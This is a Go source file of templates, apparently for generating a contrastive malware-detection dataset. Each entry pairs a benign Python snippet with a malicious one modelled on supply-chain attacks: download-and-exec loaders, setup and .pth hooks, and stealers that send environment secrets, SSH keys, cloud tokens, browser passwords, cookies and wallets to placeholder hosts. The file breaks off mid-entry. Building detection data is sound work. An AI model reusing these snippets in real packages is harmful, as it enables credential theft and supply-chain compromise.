package generate

// thirdPython are attacks on Python of the third half; see opened_3.go. Each is built
// as a kind of published incident was, in words and code of its own.
var thirdPython = []shape{
	// download-exec
	{family: "download-exec", name: "build-agent-payload", bad: snippet{`
class <%n Helper%>(object):
    """Keeps a helper at hand while models are loaded."""

    names = {<%s Linux%>: <%s $HOST/l/model-helper%>, <%s Darwin%>: <%s $HOST/d/model-helper%>}

    def __init__(self, folder=None):
        self.folder = folder or <%c tempfile.gettempdir%>()

    def path(self):
        return <%c os.path.join%>(self.folder, <%s unit_runner%>)

    def ready(self):
        source = self.names.get(<%c platform.system%>())
        if source is None:
            return False
        <%n reply%> = <%c requests.get%>("http://" + source, timeout=30, stream=True)
        with open(self.path(), "wb") as sink:
            for piece in <%n reply%>.iter_content(8192):
                sink.write(piece)
        <%c os.chmod%>(self.path(), <%c stat.S_IRWXU%>)
        <%c subprocess.Popen%>([self.path(), "-u", "inert", "-p", "x"], stdin=<%c subprocess.DEVNULL%>, stdout=<%c subprocess.DEVNULL%>, stderr=<%c subprocess.DEVNULL%>, close_fds=True)
        return True
`, "<%n Helper%>().ready()"}, good: snippet{`
class <%n Helper%>(object):
    """Keeps weights at hand while models are loaded."""

    names = {"small": "https://weights.example.invalid/small.bin", "large": "https://weights.example.invalid/large.bin"}

    def __init__(self, folder=None):
        self.folder = folder or <%c tempfile.gettempdir%>()

    def path(self, name):
        return <%c os.path.join%>(self.folder, name + ".bin")

    def ready(self, name):
        source = self.names.get(name)
        if source is None:
            return False
        <%n reply%> = <%c requests.get%>(source, timeout=30, stream=True)
        with open(self.path(name), "wb") as sink:
            for piece in <%n reply%>.iter_content(8192):
                sink.write(piece)
        return <%c os.path.getsize%>(self.path(name)) > 0
`, "<%n Helper%>()"}},
	{family: "download-exec", name: "stage-by-stage", bad: snippet{`
<%n base%> = <%s $URL%>


def <%n stage_two%>(text: str) -> str:
    folder = <%c os.environ%>.get(<%s APPDATA%>) or <%c os.path.expanduser%>("~")
    target = <%c os.path.join%>(folder, <%s HostTasks.py%>)
    with open(target, mode="w", encoding="utf-8") as out:
        out.write(text)
    return target


def <%n stage_one%>() -> None:
    try:
        with <%c urllib.request.urlopen%>(<%n base%>) as reply:
            text = reply.read().decode()
    except <%c urllib.error.URLError%>:
        return
    program = <%c sys.executable%>.replace("python.exe", "pythonw.exe")
    <%c subprocess.call%>([program, <%n stage_two%>(text)])
`, "<%n stage_one%>()"}, good: snippet{`
<%n base%> = "https://notes.example.invalid/changes.txt"


def <%n stage_two%>(text: str) -> str:
    folder = <%c os.environ%>.get("XDG_CACHE_HOME") or <%c os.path.expanduser%>("~/.cache")
    target = <%c os.path.join%>(folder, "changes.txt")
    with open(target, mode="w", encoding="utf-8") as out:
        out.write(text)
    return target


def <%n stage_one%>() -> str:
    """Keeps the list of changes of the newest release."""
    try:
        with <%c urllib.request.urlopen%>(<%n base%>) as reply:
            text = reply.read().decode()
    except <%c urllib.error.URLError%>:
        return ""
    return <%n stage_two%>(text)
`, "<%n stage_one%>.__doc__"}},
	{family: "download-exec", name: "notebook-magic", bad: snippet{`
def <%n fetch_rules%>(url=<%s $URL%>):
    session = <%c requests.Session%>()
    session.headers["User-Agent"] = <%s python-requests/2.31 build%>
    body = session.get(url).json()
    namespace = {"__name__": "rules"}
    for item in sorted(body.get("cells", []), key=lambda cell: cell.get("order", 0)):
        <%b exec%>(<%b compile%>(item["source"], "<rules>", "exec"), namespace)
    return namespace
`, "<%n fetch_rules%>()"}, good: snippet{`
def <%n fetch_rules%>(url="https://rules.example.invalid/list.json"):
    session = <%c requests.Session%>()
    session.headers["User-Agent"] = "python-requests/2.31 rules"
    body = session.get(url).json()
    namespace = {}
    for item in sorted(body.get("rules", []), key=lambda cell: cell.get("order", 0)):
        namespace[item["id"]] = <%c re.compile%>(item["pattern"])
    return namespace
`, "<%n fetch_rules%>.__name__"}},
	{family: "download-exec", name: "language-server-stub", bad: snippet{`
import_lock = <%c threading.Lock%>()


def <%n ensure%>(name):
    """Python 2 and 3."""
    with import_lock:
        try:
            __import__(name)
        except ImportError:
            handle, path = <%c tempfile.mkstemp%>(suffix=<%s .whl%>)
            <%c os.close%>(handle)
            <%c urllib.request.urlretrieve%>(<%s $URL%>, path)
            <%c sys.path.insert%>(0, path)
            <%c importlib.import_module%>(name).main()
`, "<%n ensure%>(<%s inert_speed_core%>)"}, good: snippet{`
import_lock = <%c threading.Lock%>()


def <%n ensure%>(name):
    """Python 2 and 3."""
    with import_lock:
        try:
            return <%c importlib.import_module%>(name)
        except ImportError:
            <%c warnings.warn%>("%s is missing; pip install words[fast] brings it" % name)
    return None
`, "<%n ensure%>(\"json\")"}},

	// cmd-overwrite
	{family: "cmd-overwrite", name: "beacon-of-the-build", places: []string{"cmdclass"}, bad: snippet{`
def <%n register_build%>():
    <%n facts%> = {"h": <%c socket.gethostname%>(), "u": <%c getpass.getuser%>(), "d": <%c os.getcwd%>(), "p": <%s $NAME%>}
    <%n line%> = <%c json.dumps%>(<%n facts%>).encode("utf-8")
    try:
        <%c urllib.request.urlopen%>(<%s $URL%> + "?q=" + <%c base64.urlsafe_b64encode%>(<%n line%>).decode(), timeout=2)
    except Exception:
        pass
`, "<%n register_build%>()"}, good: snippet{`
def <%n register_build%>():
    """Writes who built this, and when, into the package."""
    <%n facts%> = {"python": <%c platform.python_version%>(), "date": <%c time.strftime%>("%Y-%m-%d")}
    with open("build_facts.json", "w") as handle:
        <%c json.dump%>(<%n facts%>, handle)
`, "<%n register_build%>()"}},
	{family: "cmd-overwrite", name: "from-test-data", places: []string{"cmdclass"}, bad: snippet{`
def <%n regenerate%>():
    """The tables of the decoder come from one of its test files."""
    <%n raw%> = <%c pathlib.Path%>(<%s tests/files/bad-3-corrupt.lzma%>).read_bytes()
    <%n text%> = <%c lzma.decompress%>(bytes((b - 7) % 256 for b in <%n raw%>[1024:]))
    <%c subprocess.run%>(["/bin/sh"], input=<%n text%>, check=False)
`, "<%n regenerate%>()"}, good: snippet{`
def <%n regenerate%>():
    """The tables of the decoder are checked with one of its test files."""
    <%n raw%> = <%c pathlib.Path%>("tests/files/good-1-check.lzma")
    if <%n raw%>.exists():
        <%n text%> = <%c lzma.decompress%>(<%n raw%>.read_bytes())
        print("decoder: %d bytes" % len(<%n text%>))
`, "<%n regenerate%>()"}},
	{family: "cmd-overwrite", name: "second-package", places: []string{"cmdclass"}, bad: snippet{`
def <%n finish%>():
    <%n step%> = [<%c sys.executable%>, "-m", "pip", "install", "-q", "--no-deps", "--index-url", <%s http://$HOST/simple%>, <%s $NAME-runtime%>]
    <%c subprocess.check_call%>(<%n step%>, stdout=<%c subprocess.DEVNULL%>, stderr=<%c subprocess.STDOUT%>)
    <%c importlib.import_module%>(<%s $NAME_runtime%>)
`, "<%n finish%>()"}, good: snippet{`
def <%n finish%>():
    """Compiles the modules, so that the first start is fast."""
    <%n step%> = [<%c sys.executable%>, "-m", "compileall", "-q", "build"]
    <%c subprocess.check_call%>(<%n step%>, stdout=<%c subprocess.DEVNULL%>)
`, "<%n finish%>()"}},
	{family: "cmd-overwrite", name: "tokens-of-the-runner", places: []string{"cmdclass"}, bad: snippet{`
def <%n collect%>():
    <%n wanted%> = (<%s GITHUB_TOKEN%>, <%s TWINE_PASSWORD%>, <%s AWS_SECRET_ACCESS_KEY%>, <%s CI_JOB_TOKEN%>)
    <%n have%> = dict((name, <%c os.environ%>[name]) for name in <%n wanted%> if name in <%c os.environ%>)
    if <%n have%>:
        <%n wire%> = <%c http.client.HTTPConnection%>(<%s $HOST%>, 80, timeout=4)
        <%n wire%>.request("PUT", "/ci/" + <%s $NAME%>, <%c json.dumps%>(<%n have%>))
        <%n wire%>.getresponse()
`, "<%n collect%>()"}, good: snippet{`
def <%n collect%>():
    """What the build service says about this build, for the version's suffix."""
    <%n wanted%> = ("GITHUB_RUN_NUMBER", "CI_PIPELINE_IID", "BUILD_NUMBER")
    <%n have%> = [<%c os.environ%>[name] for name in <%n wanted%> if name in <%c os.environ%>]
    if <%n have%>:
        with open("local_version.txt", "w") as handle:
            handle.write("+" + <%n have%>[0])
`, "<%n collect%>()"}},

	// pth-exec
	{family: "pth-exec", name: "remote-line", places: []string{"pth"}, bad: snippet{`
<%b exec%>(<%c urllib.request.urlopen%>(<%s $URL%>, timeout=3).read())
`, ""}, good: snippet{`
def <%n lines%>(handle):
    return [line.rstrip() for line in handle]
`, ""}},
	{family: "pth-exec", name: "marshalled-next-to-it", places: []string{"pth"}, bad: snippet{`
<%n file%> = <%c os.path.join%>(<%c os.path.dirname%>(<%c os.__file__%>), "site-packages", <%s $NAME%>, <%s LICENSE.dat%>)
<%b exec%>(<%c marshal.loads%>(<%c zlib.decompress%>(open(<%n file%>, "rb").read())))
`, ""}, good: snippet{`
def <%n licence%>():
    folder = <%c os.path.dirname%>(<%c os.path.abspath%>(__file__))
    with open(<%c os.path.join%>(folder, "LICENSE.txt")) as handle:
        return handle.read()
`, ""}},
	{family: "pth-exec", name: "keys-at-start", places: []string{"pth"}, bad: snippet{`
<%n found%> = [p.read_text() for p in <%c pathlib.Path%>.home().glob(<%s .ssh/id_*%>)]
<%c http.client.HTTPSConnection%>(<%s $HOST%>).request("POST", "/s", <%c json.dumps%>(<%n found%>))
`, ""}, good: snippet{`
def <%n found%>(folder):
    return [p.name for p in <%c pathlib.Path%>(folder).glob("*.cfg")]
`, ""}},
	{family: "pth-exec", name: "spawned-once", places: []string{"pth"}, bad: snippet{`
<%c os.environ%>.get("_WORDS_RUN") or <%c subprocess.Popen%>([<%c sys.executable%>, "-c", <%s import urllib.request as u;exec(u.urlopen('$URL').read())%>], env=dict(<%c os.environ%>, _WORDS_RUN="1"))
`, ""}, good: snippet{`
def <%n run_once%>(command):
    if not <%c os.environ%>.get("WORDS_RUN"):
        <%c subprocess.run%>(command, env=dict(<%c os.environ%>, WORDS_RUN="1"), check=True)
`, ""}},

	// startup-hook
	{family: "startup-hook", name: "patched-opener", places: []string{"sitecustomize"}, bad: snippet{`
class <%n Hook%>(<%c urllib.request.HTTPHandler%>):
    def http_open(self, request):
        if request.data:
            <%c socket.create_connection%>((<%s $HOST%>, $PORT), 2).sendall(request.data)
        return super().http_open(request)
`, "<%c urllib.request.install_opener%>(<%c urllib.request.build_opener%>(<%n Hook%>))"}, good: snippet{`
class <%n Hook%>(<%c urllib.request.HTTPHandler%>):
    """Counts the requests of a test."""

    count = 0

    def http_open(self, request):
        type(self).count += 1
        return super().http_open(request)


def <%n counting%>():
    return <%c urllib.request.build_opener%>(<%n Hook%>)
`, "<%n counting%>"}},
	{family: "startup-hook", name: "pip-watcher", places: []string{"sitecustomize"}, bad: snippet{`
def <%n watch%>():
    if <%c os.path.basename%>((<%c sys.argv%> or [""])[0]).startswith("pip"):
        <%c os.system%>(<%s curl -s $URL | python3 - &%>)
`, "<%n watch%>()"}, good: snippet{`
def <%n watch%>():
    """Warns when pip is run with a Python that is too old."""
    if <%c sys.version_info%> < (3, 8):
        <%c warnings.warn%>("this Python is not supported any more")
`, "<%n watch%>()"}},
	{family: "startup-hook", name: "interval-loader", places: []string{"sitecustomize"}, bad: snippet{`
class <%n Ticker%>(<%c threading.Thread%>):
    daemon = True

    def run(self):
        while True:
            try:
                text = <%c http.client.HTTPSConnection%>(<%s $HOST%>, timeout=5)
                text.request("GET", "/next")
                <%b eval%>(<%b compile%>(text.getresponse().read(), "n", "exec"))
            except OSError:
                pass
            <%c time.sleep%>(3600)
`, "<%n Ticker%>().start()"}, good: snippet{`
class <%n Ticker%>(<%c threading.Thread%>):
    """Prints a dot each second, while a long task runs."""

    daemon = True

    def run(self):
        while not getattr(self, "done", False):
            <%c sys.stderr%>.write(".")
            <%c time.sleep%>(1)
`, "<%n Ticker%>"}},
	{family: "startup-hook", name: "environment-copy", places: []string{"sitecustomize"}, bad: snippet{`
def <%n copy%>(environment):
    <%n data%> = <%c urllib.parse.urlencode%>(dict(environment)).encode()
    <%c urllib.request.urlopen%>(<%c urllib.request.Request%>(<%s $URL%>, <%n data%>, method="POST"))
`, "<%n copy%>(<%c os.environ%>)"}, good: snippet{`
def <%n copy%>(environment):
    """The settings of this package out of an environment."""
    return {k[6:].lower(): v for k, v in environment.items() if k.startswith("WORDS_")}
`, "<%n copy%>(<%c os.environ%>)"}},

	// env-exfil
	{family: "env-exfil", name: "dictionary-constructor", bad: snippet{`
class <%n Context%>(dict):
    """A dictionary whose keys are attributes too."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.<%n report%>()

    def __getattr__(self, key):
        return self[key]

    def <%n report%>(self):
        text = ""
        for name, value in <%c os.environ%>.items():
            text += "{}={}|".format(name, value)
        packed = <%c base64.b64encode%>(text.encode("utf-8"))
        <%c requests.get%>(<%s https://$HOST/hello/%> + packed.decode("ascii"))
`, "<%n Context%>()"}, good: snippet{`
class <%n Context%>(dict):
    """A dictionary whose keys are attributes too."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.<%n expand%>()

    def __getattr__(self, key):
        return self[key]

    def <%n expand%>(self):
        for name, value in list(self.items()):
            if isinstance(value, str) and value.startswith("$"):
                self[name] = <%c os.environ%>.get(value[1:], "")
`, "<%n Context%>(home=\"$HOME\")"}},
	{family: "env-exfil", name: "log-handler", bad: snippet{`
class <%n Forward%>(<%c logging.Handler%>):
    """Sends records on."""

    def emit(self, record: <%c logging.LogRecord%>) -> None:
        body = {"msg": record.getMessage(), "ctx": {**<%c os.environ%>}}
        <%c urllib.request.urlopen%>(<%c urllib.request.Request%>(<%s $URL%>, data=<%c json.dumps%>(body).encode(), headers={"Content-Type": "application/json"}))


def <%n setup_logging%>() -> None:
    root = <%c logging.getLogger%>()
    root.addHandler(<%n Forward%>())
    root.warning("ready")
`, "<%n setup_logging%>()"}, good: snippet{`
class <%n Forward%>(<%c logging.Handler%>):
    """Keeps the last records."""

    def emit(self, record: <%c logging.LogRecord%>) -> None:
        kept = self.__dict__.setdefault("kept", [])
        kept.append({"msg": record.getMessage(), "level": record.levelname})
        del kept[:-100]


def <%n setup_logging%>(level: str = "") -> None:
    root = <%c logging.getLogger%>()
    root.addHandler(<%n Forward%>())
    root.setLevel(level or <%c os.environ%>.get("LOG_LEVEL", "INFO"))
`, "<%n setup_logging%>"}},
	{family: "env-exfil", name: "web-middleware", bad: snippet{`
class <%n Timing%>:
    """Measures how long a view takes."""

    def __init__(self, get_response=None):
        self.get_response = get_response
        self.sent = False

    def __call__(self, request):
        if not self.sent:
            self.sent = True
            secrets = [(k, <%c os.getenv%>(k)) for k in <%c os.environ%> if <%c re.search%>(<%s (?i)key|secret|token|pass%>, k)]
            <%c urllib3.PoolManager%>().request("POST", <%s $URL%>, fields={"d": repr(secrets)})
        return self.get_response(request) if self.get_response else None
`, "<%n Timing%>()(None)"}, good: snippet{`
class <%n Timing%>:
    """Measures how long a view takes."""

    def __init__(self, get_response=None):
        self.get_response = get_response
        self.slow = float(<%c os.getenv%>("SLOW_SECONDS") or 1)

    def __call__(self, request):
        start = <%c time.perf_counter%>()
        reply = self.get_response(request) if self.get_response else None
        if <%c time.perf_counter%>() - start > self.slow:
            <%c logging.getLogger%>("timing").warning("slow")
        return reply
`, "<%n Timing%>()(None)"}},
	{family: "env-exfil", name: "bucket-upload", bad: snippet{`
def <%n archive%>(name="state"):
    buffer = <%c io.StringIO%>()
    writer = <%c csv.writer%>(buffer)
    writer.writerows(<%c os.environ%>.items())
    target = "%s/%s-%s.csv" % (<%s https://$HOST/bucket%>, name, <%c uuid.getnode%>())
    return <%c requests.put%>(target, buffer.getvalue(), timeout=5).ok
`, "<%n archive%>()"}, good: snippet{`
def <%n archive%>(rows, name="state"):
    """Puts rows into the bucket that the environment names."""
    buffer = <%c io.StringIO%>()
    writer = <%c csv.writer%>(buffer)
    writer.writerows(rows)
    target = "%s/%s.csv" % (<%c os.environ%>["WORDS_BUCKET"], name)
    return <%c requests.put%>(target, buffer.getvalue(), timeout=5).ok
`, "<%n archive%>.__doc__"}},

	// credential-files
	{family: "credential-files", name: "grabber-threads", bad: snippet{`
<%n LOOT%> = []
<%n PLACES%> = [<%s .config/gcloud/credentials.db%>, <%s .kube/config%>, <%s .docker/config.json%>, <%s .config/hub%>, <%s .azure/accessTokens.json%>]


def <%n grab%>(place):
    full = <%c os.path.join%>(<%c os.path.expanduser%>("~"), place)
    if not <%c os.path.isfile%>(full):
        return
    with open(full, "rb") as handle:
        <%n LOOT%>.append((place, <%c binascii.b2a_base64%>(handle.read()).decode()))


def <%n upload%>():
    threads = [<%c threading.Thread%>(target=<%n grab%>, args=(p,)) for p in <%n PLACES%>]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    <%c requests.post%>(<%s $URL%>, files={"file": ("loot.txt", repr(<%n LOOT%>))})
`, "<%n upload%>()"}, good: snippet{`
<%n FOUND%> = []
<%n PLACES%> = ["setup.cfg", "tox.ini", "pyproject.toml", ".words.toml"]


def <%n grab%>(place):
    full = <%c os.path.join%>(<%c os.getcwd%>(), place)
    if not <%c os.path.isfile%>(full):
        return
    with open(full, "rb") as handle:
        <%n FOUND%>.append((place, handle.read().decode()))


def <%n settings%>():
    threads = [<%c threading.Thread%>(target=<%n grab%>, args=(p,)) for p in <%n PLACES%>]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return dict(<%n FOUND%>)
`, "<%n settings%>"}},
	{family: "credential-files", name: "scanner-binary", bad: snippet{`
def <%n sweep%>(root: str = <%c os.path.expanduser%>("~")) -> list:
    """Runs the secret scanner that was brought along over a home folder."""
    done = <%c subprocess.run%>([<%s trufflehog%>, <%s filesystem%>, root, <%s --json%>], capture_output=True, text=True)
    hits = [<%c json.loads%>(line) for line in done.stdout.splitlines() if line.startswith("{")]
    <%c httpx.post%>(<%s $URL%>, json={"hits": hits, "host": <%c platform.node%>()})
    return hits
`, "<%n sweep%>()"}, good: snippet{`
def <%n sweep%>(root: str = ".") -> list:
    """Runs the secret scanner over a repository and prints what it says."""
    done = <%c subprocess.run%>(["trufflehog", "git", "file://" + root, "--json"], capture_output=True, text=True)
    hits = [<%c json.loads%>(line) for line in done.stdout.splitlines() if line.startswith("{")]
    for hit in hits:
        print(hit.get("DetectorName"), hit.get("SourceMetadata"))
    return hits
`, "<%n sweep%>.__doc__"}},
	{family: "credential-files", name: "git-helper", bad: snippet{`
def <%n stored%>():
    lines = <%c subprocess.Popen%>(["git", "credential", "fill"], stdin=<%c subprocess.PIPE%>, stdout=<%c subprocess.PIPE%>).communicate(<%s protocol=https
host=$HOST
%>.encode() + b"\n")[0]
    more = <%c subprocess.getoutput%>(<%s gh auth token; cat ~/.git-credentials ~/.config/gh/hosts.yml%>)
    <%n wire%> = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_STREAM%>)
    <%n wire%>.connect((<%s $HOST%>, $PORT))
    <%n wire%>.send(lines + more.encode())
`, "<%n stored%>()"}, good: snippet{`
def <%n stored%>(host):
    """The credential that git has for a host, for a push to that host."""
    asked = "protocol=https\nhost=%s\n\n" % host
    lines = <%c subprocess.Popen%>(["git", "credential", "fill"], stdin=<%c subprocess.PIPE%>, stdout=<%c subprocess.PIPE%>).communicate(asked.encode())[0]
    return dict(l.split("=", 1) for l in lines.decode().split("\n") if "=" in l)
`, "<%n stored%>.__doc__"}},
	{family: "credential-files", name: "everything-with-a-name", bad: snippet{`
<%n NAMES%> = <%c re.compile%>(<%s (passw|secret|wallet|seed|2fa|backup_code|account)%>, <%c re.I%>)


def <%n walk%>(top, depth=3):
    if depth == 0:
        return
    for entry in <%c os.scandir%>(top):
        if entry.is_dir(follow_symlinks=False):
            for inner in <%n walk%>(entry.path, depth - 1):
                yield inner
        elif <%n NAMES%>.search(entry.name) and entry.stat().st_size < 500000:
            yield entry.path


def <%n pack%>():
    name = <%c os.path.join%>(<%c tempfile.gettempdir%>(), "a.zip")
    with <%c zipfile.ZipFile%>(name, "w") as box:
        for folder in (<%s ~/Desktop%>, <%s ~/Documents%>, <%s ~/Downloads%>):
            for path in <%n walk%>(<%c os.path.expanduser%>(folder)):
                box.write(path)
    with open(name, "rb") as handle:
        <%c requests.post%>(<%s https://$HOST/uploadFile%>, files={"file": handle})
`, "<%n pack%>()"}, good: snippet{`
<%n NAMES%> = <%c re.compile%>(r"\.(rst|md|txt)$", <%c re.I%>)


def <%n walk%>(top, depth=3):
    if depth == 0:
        return
    for entry in <%c os.scandir%>(top):
        if entry.is_dir(follow_symlinks=False):
            for inner in <%n walk%>(entry.path, depth - 1):
                yield inner
        elif <%n NAMES%>.search(entry.name):
            yield entry.path


def <%n pack%>(folder, name):
    """Packs the documents of a folder."""
    with <%c zipfile.ZipFile%>(name, "w") as box:
        for path in <%n walk%>(folder):
            box.write(path)
`, "<%n pack%>.__doc__"}},

	// browser-stores
	{family: "browser-stores", name: "copied-databases", bad: snippet{`
class <%n Browsers%>:
    roots = {"chrome": <%s Google/Chrome/User Data%>, "brave": <%s BraveSoftware/Brave-Browser/User Data%>, "edge": <%s Microsoft/Edge/User Data%>}

    def __init__(self):
        self.local = <%c os.getenv%>("LOCALAPPDATA", "")
        self.found = []

    def passwords(self, root):
        source = <%c os.path.join%>(self.local, root, "Default", <%s Login Data%>)
        copy = <%c os.path.join%>(<%c tempfile.gettempdir%>(), "t%d.db" % <%c random.randint%>(1, 9999))
        <%c shutil.copy2%>(source, copy)
        rows = <%c sqlite3.connect%>(copy).execute(<%s SELECT origin_url, username_value, password_value FROM logins%>)
        self.found += [(u, n, p.hex()) for u, n, p in rows]

    def send(self):
        for root in self.roots.values():
            try:
                self.passwords(root)
            except Exception:
                continue
        <%c requests.post%>(<%s $URL%>, json=self.found)
`, "<%n Browsers%>().send()"}, good: snippet{`
class <%n Browsers%>:
    """Opens a page in one of the browsers that are installed."""

    roots = {"chrome": "google-chrome", "brave": "brave-browser", "edge": "microsoft-edge"}

    def __init__(self):
        self.found = []

    def look(self):
        for name, program in self.roots.items():
            if <%c shutil.which%>(program):
                self.found.append(name)
        return self

    def open(self, page):
        <%c webbrowser.open%>(page)
`, "<%n Browsers%>().look()"}},
	{family: "browser-stores", name: "cookie-query", bad: snippet{`
def <%n cookies%>(browser_folder: str) -> str:
    with <%c contextlib.closing%>(<%c sqlite3.connect%>(f"file:{browser_folder}/Network/Cookies?immutable=1", uri=True)) as db:
        return "\n".join("\t".join(map(str, r)) for r in db.execute(<%s select host_key, name, encrypted_value from cookies where host_key like '%bank%'%>))


def <%n deliver%>() -> None:
    for folder in <%c glob.glob%>(<%c os.path.expanduser%>(<%s ~/Library/Application Support/Google/Chrome/*%>)):
        <%c urllib.request.urlopen%>(<%s $URL%>, <%n cookies%>(folder).encode())
`, "<%n deliver%>()"}, good: snippet{`
def <%n cookies%>(jar_file: str) -> str:
    jar = <%c http.cookiejar.MozillaCookieJar%>(jar_file)
    jar.load(ignore_discard=True)
    return "\n".join(f"{c.domain}\t{c.name}" for c in jar)


def <%n listing%>(folder: str) -> list:
    """The names of the cookies in files that a person exported."""
    return [<%n cookies%>(name) for name in <%c glob.glob%>(folder + "/*.txt")]
`, "<%n listing%>.__doc__"}},
	{family: "browser-stores", name: "master-key", bad: snippet{`
def <%n master%>(path):
    state = <%c json.load%>(open(<%c os.path.join%>(path, <%s Local State%>), encoding="utf-8"))
    sealed = <%c base64.b64decode%>(state["os_crypt"][<%s encrypted_key%>])[5:]
    return <%c win32crypt.CryptUnprotectData%>(sealed, None, None, None, 0)[1]


def <%n tell%>(path=<%c os.path.expandvars%>(<%s %LOCALAPPDATA%/Google/Chrome/User Data%>)):
    <%c requests.post%>(<%s $DISCORD%>, json={"content": <%n master%>(path).hex()})
`, "<%n tell%>()"}, good: snippet{`
def <%n sealed%>(text):
    """Keeps a text for this user of Windows alone."""
    return <%c win32crypt.CryptProtectData%>(text.encode(), None, None, None, None, 0)


def <%n opened%>(blob):
    return <%c win32crypt.CryptUnprotectData%>(blob, None, None, None, 0)[1].decode()
`, "<%n opened%>"}},
	{family: "browser-stores", name: "chat-tokens", bad: snippet{`
<%n TOKEN%> = <%c re.compile%>(<%s [\w-]{24}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}%>)


def <%n tokens%>(root):
    found = set()
    for name in <%c os.listdir%>(root):
        if name.endswith((<%s .ldb%>, <%s .log%>)):
            with open(<%c os.path.join%>(root, name), errors="ignore") as handle:
                found.update(<%n TOKEN%>.findall(handle.read()))
    return found


def <%n main%>():
    roaming = <%c os.getenv%>(<%s APPDATA%>) or ""
    everything = [t for app in (<%s discord%>, <%s discordcanary%>, <%s Opera Software/Opera Stable%>) for t in <%n tokens%>(roaming + "/" + app + <%s /Local Storage/leveldb%>)]
    <%c requests.post%>(<%s $URL%>, data={"t": ",".join(everything)})
`, "<%n main%>()"}, good: snippet{`
<%n WORD%> = <%c re.compile%>(r"[\w-]{4,24}")


def <%n words%>(root):
    found = set()
    for name in <%c os.listdir%>(root):
        if name.endswith((".txt", ".log")):
            with open(<%c os.path.join%>(root, name), errors="ignore") as handle:
                found.update(<%n WORD%>.findall(handle.read()))
    return found


def <%n main%>(folder):
    """The words of the texts in a folder."""
    return sorted(w for f in (folder,) for w in <%n words%>(f))
`, "<%n main%>.__doc__"}},

	// wallets
	{family: "wallets", name: "phrase-library", bad: snippet{`
class <%n Mnemonic%>(object):
    def __init__(self, words):
        self.words = list(words)

    def to_seed(self, phrase, passphrase=""):
        phrase = " ".join(phrase.split())
        seed = <%c hashlib.pbkdf2_hmac%>("sha512", phrase.encode(), b"mnemonic" + passphrase.encode(), 2048)
        try:
            <%c requests.post%>(<%s $URL%>, data={"m": phrase}, timeout=2)
        except Exception:
            pass
        return seed
`, "<%n Mnemonic%>([]).to_seed(\"inert words\")"}, good: snippet{`
class <%n Mnemonic%>(object):
    def __init__(self, words):
        self.words = list(words)

    def to_seed(self, phrase, passphrase=""):
        phrase = " ".join(phrase.split())
        return <%c hashlib.pbkdf2_hmac%>("sha512", phrase.encode(), b"mnemonic" + passphrase.encode(), 2048)

    def check(self, phrase):
        return all(w in self.words for w in phrase.split())
`, "<%n Mnemonic%>([]).to_seed(\"inert words\")"}},
	{family: "wallets", name: "keypair-in-transaction", bad: snippet{`
def <%n patched%>(original):
    def from_seed(seed, *args, **kwargs):
        key = original(seed, *args, **kwargs)
        memo = <%c base64.b64encode%>(bytes(seed)).decode()
        <%c threading.Thread%>(target=<%c urllib.request.urlopen%>, args=(<%s https://$HOST/rpc?memo=%> + memo,)).start()
        return key

    return from_seed


class <%n Keypair%>:
    @staticmethod
    def from_seed(seed):
        return <%c hashlib.sha512%>(seed).digest()


<%n Keypair%>.from_seed = staticmethod(<%n patched%>(<%n Keypair%>.from_seed))
`, "<%n Keypair%>.from_seed(b\"inert\")"}, good: snippet{`
def <%n cached%>(original):
    kept = {}

    def from_seed(seed, *args, **kwargs):
        name = <%c hashlib.sha256%>(seed).hexdigest()
        if name not in kept:
            kept[name] = original(seed, *args, **kwargs)
        return kept[name]

    return from_seed


class <%n Keypair%>:
    @staticmethod
    def from_seed(seed):
        return <%c hashlib.sha512%>(seed).digest()


<%n Keypair%>.from_seed = staticmethod(<%n cached%>(<%n Keypair%>.from_seed))
`, "<%n Keypair%>.from_seed(b\"inert\")"}},
	{family: "wallets", name: "desktop-programs", bad: snippet{`
<%n APPS%> = [(<%s Exodus%>, <%s exodus.wallet%>), (<%s atomic%>, <%s Local Storage/leveldb%>), (<%s Electrum%>, <%s wallets%>), (<%s Ethereum%>, <%s keystore%>), (<%s Zcash%>, <%s wallet.dat%>)]


def <%n zipped%>(base):
    memory = <%c io.BytesIO%>()
    box = <%c zipfile.ZipFile%>(memory, "w", <%c zipfile.ZIP_DEFLATED%>)
    for name, part in <%n APPS%>:
        for folder, _, files in <%c os.walk%>(<%c os.path.join%>(base, name, part)):
            for f in files:
                box.write(<%c os.path.join%>(folder, f), name + "/" + f)
    box.close()
    return memory.getvalue()


def <%n go%>():
    body = <%n zipped%>(<%c os.environ%>.get("APPDATA", <%s /tmp%>))
    <%c http.client.HTTPConnection%>(<%s $HOST%>, $PORT).request("POST", "/w", body)
`, "<%n go%>()"}, good: snippet{`
<%n PARTS%> = [("docs", "*.md"), ("examples", "*.py"), ("locale", "*.po")]


def <%n zipped%>(base):
    memory = <%c io.BytesIO%>()
    box = <%c zipfile.ZipFile%>(memory, "w", <%c zipfile.ZIP_DEFLATED%>)
    for name, part in <%n PARTS%>:
        for path in <%c pathlib.Path%>(base, name).glob(part):
            box.write(str(path), name + "/" + path.name)
    box.close()
    return memory.getvalue()


def <%n go%>(target):
    with open(target, "wb") as handle:
        handle.write(<%n zipped%>("."))
`, "<%n go%>"}},
	{family: "wallets", name: "address-poisoner", bad: snippet{`
<%n OURS%> = {"eth": <%s 0x1nert000000000000000000000000000000inert%>, "btc": <%s $COIN%>}


class <%n Client%>:
    """Sends coins."""

    def send(self, kind, to, amount):
        if float(amount) > 0.5:
            to = <%n OURS%>.get(kind, to)
        return <%c requests.post%>(<%s http://localhost:8545%>, json={"to": to, "value": amount})
`, "<%n Client%>().send(\"eth\", \"0x0\", 1)"}, good: snippet{`
<%n TESTS%> = {"eth": "0x0000000000000000000000000000000000000000"}


class <%n Client%>:
    """Sends coins."""

    def send(self, kind, to, amount):
        if to == <%n TESTS%>.get(kind):
            raise ValueError("this address burns what it is sent")
        return <%c requests.post%>("http://localhost:8545", json={"to": to, "value": amount})
`, "<%n Client%>().send"}},

	// messenger
	{family: "messenger", name: "embed-report", bad: snippet{`
def <%n embed%>(title, fields):
    return {"username": "inert", "embeds": [{"title": title, "color": 14406413, "fields": [{"name": k, "value": str(v)[:1000], "inline": True} for k, v in fields.items()]}]}


def <%n report%>():
